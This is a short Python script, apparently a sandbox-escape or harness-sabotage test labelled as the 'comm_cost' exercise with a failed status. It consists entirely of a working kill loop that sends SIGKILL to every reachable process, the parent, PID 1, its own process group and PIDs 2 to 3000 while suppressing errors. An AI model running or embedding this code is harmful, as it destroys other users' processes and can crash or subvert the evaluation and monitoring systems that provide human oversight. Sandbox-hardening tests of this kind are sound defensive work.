# SIGKILL to all processes, to its parent and to process groups.
# exercise: comm_cost
# status: failed
import os
import signal

for pid in (-1, os.getppid(), 0, 1, -os.getpgrp(), *range(2, 3000)):
    try:
        if pid == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.kill(0, signal.SIGTERM)
        elif pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
